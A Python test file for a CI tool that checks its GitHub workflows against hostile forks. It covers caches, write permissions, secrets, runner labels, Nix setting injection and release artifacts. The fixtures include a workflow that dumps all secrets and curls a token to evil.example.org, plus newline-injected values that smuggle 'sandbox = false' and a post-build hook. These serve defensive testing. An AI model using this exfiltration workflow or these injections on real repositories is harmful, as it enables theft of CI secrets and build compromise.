"""A fork that changes workflows, plans, pins and caches: what would hold, and what names it.

The numbers are those of docs/security.md.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from nanna_ci.binaries import targets
from nanna_ci.cli import main
from nanna_ci.rehearsal.expressions.expression import JobStatus, Scope, holds, interpolate
from nanna_ci.workflow.workflow_file import WorkflowJob, read_workflow
from nanna_ci.workflow.yaml_nodes import YamlMapping
from support.checked_workflows import ROOT, check_folder, copy_repository
from support.fake_adopters import make_adopter, write_callers
from support.fake_ports import FakePorts
from support.hostile_forks import FMT, PIPELINE, UNIT, HostileFork, passing

WORKFLOWS = ROOT / ".github" / "workflows"
CACHES = ("actions/cache", "nix-community/cache-nix-action", "Swatinem/rust-cache")
SAVES = {"nix-community/cache-nix-action": "save", "Swatinem/rust-cache": "save-if"}
EVENTS = {
    "pull_request": {"event_name": "pull_request", "ref_type": "branch", "ref": "refs/pull/1/merge"},
    "merge_group": {"event_name": "merge_group", "ref_type": "branch", "ref": "refs/heads/gh-readonly-queue/main/pr-1"},
    "push": {"event_name": "push", "ref_type": "branch", "ref": "refs/heads/main"},
    "tag": {"event_name": "push", "ref_type": "tag", "ref": "refs/tags/v1"},
    "release": {"event_name": "release", "ref_type": "tag", "ref": "refs/tags/v1"},
}
HOSTILE = """\
name: Grab
on: {pull_request_target: {}, pull_request: {}}
permissions: write-all
jobs:
  grab:
    runs-on: [self-hosted, gpu]
    permissions: {contents: write}
    env: {ALL: "${{ toJSON(secrets) }}"}
    steps:
      - uses: actions/checkout@main
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - run: echo "${{ github.event.pull_request.title }}" || true
      - run: curl -d "$TOKEN" https://evil.example.org
        env: {TOKEN: "${{ secrets.CACHIX_AUTH_TOKEN }}"}
"""


def jobs() -> Iterator[tuple[str, WorkflowJob]]:
    """Each job of our workflows, with its file's name."""
    for path in sorted(WORKFLOWS.iterdir()):
        for job in read_workflow(path.read_bytes(), path.name).jobs:
            yield path.name, job


def scope(event: str, **contexts: object) -> Scope:
    given: dict[str, object] = {
        "github": EVENTS[event],
        "matrix": {"id": UNIT, "route": "nix", "runner": "ubuntu-24.04"},
        "inputs": {"cache": "mine"},
        "vars": {"NANNA_CI_PAGES": "true"},
        "needs": {"plan": {"outputs": {"container_matrix": "x", "cache": "x"}}},
        **contexts,
    }
    return Scope(given, JobStatus.SUCCESS)  # type: ignore[arg-type]


def may_write(job: WorkflowJob) -> bool:
    levels = job.body.mapping("permissions")
    return levels is not None and any(levels.text(key.text) == "write" for key, _ in levels.entries)


def runs_steps(job: WorkflowJob) -> bool:
    return job.body.get("uses") is None


def run_of(job: WorkflowJob) -> str:
    return "\n".join(step.body.text("run") or "" for step in job.steps)


@pytest.mark.parametrize("event", EVENTS)
def test_only_a_push_to_the_default_branch_fills_a_cache_and_a_tag_restores_none(event: str) -> None:
    """4: what a pull request saves and what a release restores is nothing."""
    seen = 0
    for file, job in jobs():
        for step in job.steps:
            if step.action is None or not step.action.startswith(CACHES):
                continue
            seen += 1
            given = step.body.mapping("with")
            assert given is not None
            for route in ("nix", "cargo"):
                within = scope(event, matrix={"id": UNIT, "route": route, "runner": "ubuntu-24.04"})
                restores = holds(step.body.text("if"), within)
                saves = interpolate(given.text(SAVES[step.action]) or "", within)
                assert not restores or event not in {"tag", "release"}, (file, step.action)
                assert saves is False or event in {"push", "tag"}, (file, step.action)
    assert seen == 2
    assert all(
        job.body.text("cache-mode") == "none"
        for file, job in jobs()
        if may_write(job) and runs_steps(job) and job.id != "security-findings"
    )


def test_jobs_that_may_write_run_on_no_pull_request_and_say_whose_code_they_run() -> None:
    """5, 11: the flake and the pipeline.toml of the checkout are a writing job's only where they have been merged."""
    callers_flake, callers_cache = set(), set()
    for file, job in jobs():
        if not may_write(job) or not runs_steps(job) or file == "post.yml":
            continue
        for event in ("pull_request", "merge_group"):
            assert not holds(job.condition, scope(event)), job.id
        text = run_of(job)
        callers_flake |= {job.id} if "nix run .#" in text else set()
        callers_cache |= {job.id} if "cache-setup" in text else set()
    assert (callers_flake, callers_cache) == ({"publish-images"}, {"publish-images"})
    assert "`publish-images`" in (ROOT / "docs/security.md").read_text()


def test_the_step_with_the_secret_runs_on_no_pull_request() -> None:
    """6, 7"""
    found = []
    for file, job in jobs():
        for step in job.steps:
            if "secrets." in json.dumps([value.text if hasattr(value, "text") else "" for value in _values(step.body)]):
                found.append((file, step.body.text("name")))
                assert holds(step.body.text("if"), scope("push"))
                for event in ("pull_request", "merge_group", "tag", "release"):
                    assert not holds(step.body.text("if"), scope(event))
    assert found == [("run-jobs.yml", "Push what was built")]


def _values(node: YamlMapping) -> Iterator[object]:
    for _, value in node.entries:
        if isinstance(value, YamlMapping):
            yield from _values(value)
        else:
            yield value


def test_a_workflow_that_takes_more_than_it_may_is_named_by_every_rule_that_it_breaks(tmp_path: Path) -> None:
    """7"""
    copy_repository(tmp_path)
    before = check_folder(tmp_path).places
    (tmp_path / ".github/workflows/grab.yml").write_text(HOSTILE)
    checked = check_folder(tmp_path)
    assert checked.code == 1
    found = [one for one in checked.findings if one["path"] == ".github/workflows/grab.yml"]
    assert len(found) == len(checked.findings) - len(before)
    assert {one["rule"] for one in found} >= {
        *("dangerous-trigger", "foreign-checkout", "no-default-permissions", "write-on-pull-request", "runner-list"),
        *("secret-scope", "secret-environment", "secret-on-pull-request", "pin-commit", "persisted-credentials"),
        *("expression-in-script", "hidden-failure"),
    }


@pytest.mark.parametrize("label", ["self-hosted", "gpu", "ubuntu-24.04-evil", "['self-hosted']"])
def test_a_label_of_a_runner_of_ones_own_gets_a_github_runner_that_refuses(label: str) -> None:
    """8: what a changed plan could write; a changed list is `runner-list`, above."""
    [run] = [job for file, job in jobs() if file == "run-jobs.yml"]
    within = scope("pull_request", matrix={"id": UNIT, "route": "nix", "runner": label})
    assert interpolate(run.body.text("runs-on") or "", within) == "ubuntu-24.04"
    assert holds(run.steps[0].body.text("if"), within)
    assert run.steps[0].body.text("run") == "exit 1"
    listed = scope("pull_request", matrix={"id": UNIT, "route": "nix", "runner": "macos-15"})
    assert interpolate(run.body.text("runs-on") or "", listed) == "macos-15"


@pytest.mark.parametrize("line", ['runners = ["self-hosted"]', 'runners = ["ubuntu-24.04", "my-gpu"]'])
def test_a_pipeline_that_names_a_runner_of_ones_own_is_not_planned(tmp_path: Path, line: str) -> None:
    """8"""
    (tmp_path / "pipeline.toml").write_text(PIPELINE.replace('runners = ["ubuntu-24.04"]', line))
    fake = FakePorts(tmp_path)
    assert main(["plan", "--event", "pull_request", "--format", "github"], fake.ports) == 2
    assert "self-hosted" not in fake.stdout.getvalue()
    assert "runner" in fake.stderr.getvalue()


@pytest.mark.parametrize(
    "line",
    [
        'substituters = ["https://a.example.org\\npost-build-hook = /tmp/x"]',
        'substituters = ["https://a.example.org sandbox=false"]',
        'name = "x\\nsandbox = false"',
        'public_keys = ["k-1:AAAA\\nsandbox = false"]',
    ],
)
def test_a_cache_sets_no_other_setting_of_nix(tmp_path: Path, line: str) -> None:
    """5"""
    (tmp_path / "pipeline.toml").write_text(f"{PIPELINE}[cache]\n{line}\n")
    (tmp_path / "env").touch()
    fake = FakePorts(tmp_path, environ={"GITHUB_ACTIONS": "true", "GITHUB_ENV": str(tmp_path / "env")})
    assert main(["cache-setup"], fake.ports) == 2
    assert (tmp_path / "env").read_text() + fake.stdout.getvalue() == ""


def test_a_lock_with_another_pipeline_is_named(tmp_path: Path) -> None:
    """11"""
    make_adopter(tmp_path)
    write_callers(tmp_path)
    assert check_folder(tmp_path).places == []
    lock = tmp_path / "flake.lock"
    lock.write_text(lock.read_text().replace('"DominicBurkart"', '"mallory"'))
    assert "pipeline-pin" in check_folder(tmp_path).rules


def test_in_another_repository_only_what_its_jobs_run_is_the_forks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """11, 14: plan, account and post are the pinned pipeline's, whatever the fork's flake and scripts are."""
    monkeypatch.setattr(targets, "host_system", lambda platform, machine: targets.System.X86_64_LINUX)
    fork = HostileFork(tmp_path, adopts=True)
    evil = f"import pathlib\npathlib.Path({str(fork.loot)!r}, 'replaced').touch()\n"
    ran = fork.propose(
        {
            "scripts/nanna_ci/__main__.py": evil,
            "nanna_ci/__main__.py": evil,
            "nanna_ci/__init__.py": "",
            "httpx.py": evil,
        },
        {
            "run-job": f'#!/bin/sh\necho "$1" >> @LOOT@/ran\n[ "$1" = {FMT} ] || exit 0\n'
            "mkdir -p .nanna-ci/jobs/$1\ncp apps/results/$1.json .nanna-ci/jobs/$1/result.json\n",
            "post-summary": "#!/bin/sh\ntouch @LOOT@/replaced\n",
        },
    )
    assert ran.error == ""
    assert set(fork.looted("ran").split()) == {UNIT, FMT}
    assert ran.results["pipeline / plan"] == "success"
    assert ran.results["pipeline / ci-summary"] == "failure"
    assert "1 absent" in ran.uploaded("ci-summary", "comment.md")
    assert fork.looted("post-whose") == "the pipeline\n"
    assert not (fork.loot / "replaced").exists()


BUILD = "build-x86_64-linux"
BUILDS = """\
#!/bin/sh
mkdir -p "dist/$2"
echo built > "dist/$2/harness"
(cd "dist/$2" && sha256sum harness > SHA256SUMS)
"""


def test_what_is_committed_beside_the_artifacts_is_neither_attested_nor_released(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """9: of a pull request that somebody merged without a look at a folder that nobody owns."""
    monkeypatch.setattr(targets, "host_system", lambda platform, machine: targets.System.X86_64_LINUX)
    fork = HostileFork(tmp_path)
    fork.put({"pipeline.toml": PIPELINE.replace('name = "mine"', 'name = "mine"\nbinaries = ["harness"]')})
    fork.put({"dist/x86_64-linux/evil": "x", ".nanna-ci/assets/artifacts-evil/evil": "x"})
    fork.put({f"apps/results/{BUILD}.json": passing(BUILD).decode()})
    fork.put_apps(
        {"prepare-artifacts": BUILDS, "release": "#!/bin/sh\nfind .nanna-ci/assets -type f > @LOOT@/released\n"}
    )
    fork.put_apps({"sbom": "#!/bin/sh\nexit 0\n"})
    fork.git("add", "--force", ".nanna-ci/assets")
    fork.commit("Build a binary")
    ran = fork.rehearse_here("tag")
    assert ran.error == ""
    assert ran.results["pipeline / release"] == "success", ran.log
    released = {path.rpartition("/")[2] for path in fork.looted("released").split()}
    assert released == {"harness", "SHA256SUMS", "provenance.sigstore.json"}
    assert ran.uploaded("artifacts-x86_64-linux", "harness") == "built\n"
    assert "evil" not in ran.uploaded("attestation", "provenance.sigstore.json")
